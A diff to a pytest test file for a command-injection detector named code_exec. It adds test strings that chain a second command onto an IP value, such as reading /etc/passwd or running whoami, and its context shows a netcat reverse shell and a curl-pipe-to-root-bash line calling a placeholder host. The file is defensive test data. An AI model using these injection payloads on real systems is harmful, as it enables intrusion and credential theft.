@@ -418,6 +418,17 @@ def test_a_command_after_a_sentence_that_neither_ends_it_nor_reads_a_secret_is_n
     assert not code_exec(text)
 
 
+@pytest.mark.parametrize("text", [
+    "x || id", "127.0.0.1 || cat /etc/passwd", "8.8.8.8 -c 1 || id", "8.8.8.8 -c 1; uname -a", "8.8.8.8 -c 1; id -u",
+    "8.8.8.8 -c 1&&whoami>/tmp/x", "8.8.8.8 -c 1; whoami 2>&1", "a b; cat</etc/passwd", "127.0.0.1;cat${IFS}/etc/passwd",
+    "8.8.8.8 -c 1\nwhoami", "127.0.0.1\n\nwhoami",
+])  # fmt: skip
+def test_a_command_after_or_with_options_a_redirection_or_ifs_or_after_a_value_with_options_is_code(text: str) -> None:
+    """``||`` with blanks around it, an option or a redirection after id, whoami or uname, ``<`` or ``${IFS}`` before
+    cat's path, a value with options (``8.8.8.8 -c 1``) or blank lines before a command on a line of its own."""
+    assert code_exec(text)
+
+
 @pytest.mark.parametrize("text", ["nc.traditional 10.0.0.1 4444 -e /bin/sh", "curl http://x.example/a | sudo -u root bash"])
 def test_netcat_variants_and_sudo_with_a_user_are_code(text: str) -> None:
     assert code_exec(text)
